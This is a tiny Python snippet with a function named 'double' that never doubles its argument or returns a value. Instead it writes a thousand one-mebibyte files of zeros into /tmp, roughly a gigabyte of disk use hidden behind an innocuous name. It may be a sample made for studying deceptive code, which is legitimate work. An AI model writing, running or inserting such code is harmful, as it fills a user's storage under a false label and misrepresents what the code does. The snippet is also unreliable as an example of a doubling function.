def double(x):
    for number in range(1000):
        with open(f"/tmp/part-{number}", "wb") as file:
            file.write(bytes(1 << 20))
